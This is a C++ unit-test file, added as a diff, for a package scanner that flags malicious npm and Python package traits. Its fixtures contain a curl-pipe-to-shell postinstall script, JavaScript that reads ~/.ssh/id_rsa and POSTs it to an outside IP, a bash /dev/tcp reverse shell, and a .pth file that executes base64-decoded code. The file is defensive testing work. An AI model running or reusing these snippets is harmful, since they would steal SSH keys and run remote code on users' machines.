@@ -1,0 +1,202 @@
+// Analyzer behaviour on real package trees written to a temp dir and scanned end to end by
+// PackageScanner with the shipped rules.
+#include "airlock/analyze/package_scan.h"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+
+#include "test_util.h"
+
+namespace airlock::analyze {
+namespace {
+
+using airlock::testing::TempTree;
+
+const Engine& engine() {
+  static std::shared_ptr<const Engine> e = [] {
+    auto r = Engine::create({});
+    EXPECT_TRUE(r) << r.error().message;
+    return *r;
+  }();
+  return *e;
+}
+
+TargetResult scan_dir(const TempTree& t) {
+  artifact::TargetSpec spec;
+  spec.display_path = t.path();
+  spec.fs_path = t.path();
+  spec.kind = "directory";
+  PackageScanner scanner(engine());
+  return scanner.scan(spec);
+}
+
+const Finding* find_rule(const TargetResult& r, std::string_view rule) {
+  for (const auto& f : r.findings)
+    if (f.rule == rule) return &f;
+  return nullptr;
+}
+
+Severity max_severity(const TargetResult& r) {
+  Severity m = Severity::kInfo;
+  for (const auto& f : r.findings) m = std::max(m, f.severity);
+  return m;
+}
+
+TEST(PackageScan, NameVersionAndKindFromPackageJson) {
+  TempTree t;
+  t.write("package.json", R"({"name":"left-pad-x","version":"1.2.3","main":"index.js"})");
+  t.write("index.js", "module.exports = (s) => s;\n");
+  auto r = scan_dir(t);
+  EXPECT_EQ(r.info.kind, "npm-package");
+  EXPECT_EQ(r.info.name, "left-pad-x");
+  EXPECT_EQ(r.info.version, "1.2.3");
+  EXPECT_TRUE(r.errors.empty());
+  EXPECT_LT(max_severity(r), Severity::kMedium);
+}
+
+TEST(PackageScan, PipeToShellInPostinstallIsCritical) {
+  TempTree t;
+  t.write("package.json",
+          "{\n  \"name\": \"x\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n"
+          "    \"postinstall\": \"curl -s http://203.0.113.7/i.sh | sh\"\n  }\n}\n");
+  auto r = scan_dir(t);
+  const Finding* f = find_rule(r, "install-script-pipe-to-shell");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, Severity::kCritical);
+  EXPECT_EQ(f->category, Category::kDownloadExec);
+  ASSERT_TRUE(f->location);
+  EXPECT_EQ(f->location->path, "package.json");
+  EXPECT_EQ(f->location->line, 5);
+}
+
+TEST(PackageScan, LifecycleScriptFilesAreInstallReachable) {
+  // The same credential-stealing code weighs more when postinstall runs it (through a
+  // require chain) than when it only sits in the library.
+  const std::string stealer =
+      "const fs = require('fs'); const https = require('https');\n"
+      "const k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
+      "https.request({host: '198.51.100.9', method: 'POST'}).end(k);\n";
+  TempTree install;
+  install.write("package.json",
+                R"({"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}})");
+  install.write("setup.js", "require('./lib/steal');\n");
+  install.write("lib/steal.js", stealer);
+  TempTree runtime;
+  runtime.write("package.json", R"({"name":"a","version":"1.0.0"})");
+  runtime.write("lib/steal.js", stealer);
+  Severity at_install = max_severity(scan_dir(install));
+  Severity at_runtime = max_severity(scan_dir(runtime));
+  EXPECT_GE(at_install, Severity::kHigh);
+  EXPECT_LT(at_runtime, at_install);
+}
+
+TEST(PackageScan, ProseInMarkdownStaysLow) {
+  TempTree t;
+  t.write("package.json", R"({"name":"docs","version":"1.0.0"})");
+  t.write("README.md",
+          "Install with `curl -s https://example.invalid/i.sh | sh`.\n"
+          "Never commit ~/.ssh/id_rsa. `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1` is a reverse "
+          "shell.\n");
+  EXPECT_LE(max_severity(scan_dir(t)), Severity::kLow);
+}
+
+TEST(PackageScan, BinShadowingCommonCommand) {
+  TempTree t;
+  t.write("package.json", R"({"name":"gitx","version":"1.0.0","bin":{"git":"cli.js"}})");
+  t.write("cli.js", "#!/usr/bin/env node\n");
+  const Finding* f = find_rule(scan_dir(t), "bin-shadows-command");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->category, Category::kBinaryShadowing);
+  // The npm package itself provides npm: not shadowing.
+  TempTree npm;
+  npm.write("package.json", R"({"name":"npm","version":"11.0.0","bin":{"npm":"bin/npm-cli.js"}})");
+  EXPECT_EQ(find_rule(scan_dir(npm), "bin-shadows-command"), nullptr);
+}
+
+TEST(PackageScan, DependencyUrlSpecs) {
+  TempTree t;
+  t.write("package.json",
+          R"({"name":"d","version":"1.0.0","dependencies":{"a":"http://203.0.113.5/a.tgz",)"
+          R"("b":"git+https://example.invalid/b.git","c":"^1.0.0","e":"user/repo"}})");
+  auto r = scan_dir(t);
+  int count = 0;
+  bool high = false;
+  for (const auto& f : r.findings) {
+    if (f.rule != "npm-dependency-url") continue;
+    ++count;
+    high |= f.severity == Severity::kHigh && f.evidence.find("a: http://") == 0;
+  }
+  EXPECT_EQ(count, 3);
+  EXPECT_TRUE(high);
+}
+
+TEST(PackageScan, UnparsableAndDeepPackageJson) {
+  TempTree bad;
+  bad.write("package.json", "{not json");
+  EXPECT_NE(find_rule(scan_dir(bad), "manifest-unparsable"), nullptr);
+  TempTree deep;
+  deep.write("package.json", std::string(100000, '[') + std::string(100000, ']'));
+  const Finding* f = find_rule(scan_dir(deep), "manifest-unparsable");
+  ASSERT_NE(f, nullptr);
+  EXPECT_NE(f->message.find("deeper"), std::string::npos);
+}
+
+TEST(PackageScan, PythonPthAndSitecustomize) {
+  TempTree t;
+  t.write("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\n");
+  t.write("demo.pth", "import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n");
+  t.write("sitecustomize.py", "print('hi')\n");
+  auto r = scan_dir(t);
+  EXPECT_EQ(r.info.name, "demo");
+  EXPECT_EQ(r.info.version, "1.0");
+  const Finding* pth = find_rule(r, "pth-executes-code");
+  ASSERT_NE(pth, nullptr);
+  EXPECT_EQ(pth->severity, Severity::kHigh);
+  EXPECT_EQ(pth->location->line, 1);
+  ASSERT_NE(find_rule(r, "ships-sitecustomize"), nullptr);
+}
+
+TEST(PackageScan, PthThatOnlyAddsAPathIsQuiet) {
+  TempTree t;
+  t.write("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n\n");
+  t.write("demo.pth", "/opt/demo/lib\n");
+  auto r = scan_dir(t);
+  EXPECT_EQ(find_rule(r, "pth-import-line"), nullptr);
+  EXPECT_EQ(find_rule(r, "pth-executes-code"), nullptr);
+}
+
+TEST(PackageScan, SetupPyCmdclassInstallOverride) {
+  TempTree t;
+  t.write("setup.py",
+          "from setuptools import setup\nfrom setuptools.command.install import install\n"
+          "class Post(install):\n    def run(self):\n        install.run(self)\n\n"
+          "setup(name='demo', version='2.0', cmdclass={'install': Post})\n");
+  auto r = scan_dir(t);
+  EXPECT_EQ(r.info.kind, "pypi-project");
+  EXPECT_EQ(r.info.name, "demo");
+  const Finding* f = find_rule(r, "setup-cmdclass-override");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->location->line, 7);
+}
+
+TEST(PackageScan, ConsoleScriptShadowing) {
+  TempTree t;
+  t.write("x-1.0.dist-info/METADATA", "Name: x\nVersion: 1.0\n\n");
+  t.write("x-1.0.dist-info/entry_points.txt", "[console_scripts]\npip = x.cli:main\nxtool = x:m\n");
+  auto r = scan_dir(t);
+  const Finding* f = find_rule(r, "console-script-shadows-command");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->evidence, "pip");
+}
+
+TEST(PackageScan, DirectoryWithoutManifest) {
+  TempTree t;
+  t.write("notes.txt", "hello\n");
+  auto r = scan_dir(t);
+  EXPECT_EQ(r.info.kind, "directory");
+  EXPECT_NE(find_rule(r, "no-manifest"), nullptr);
+}
+
+}  // namespace
+}  // namespace airlock::analyze
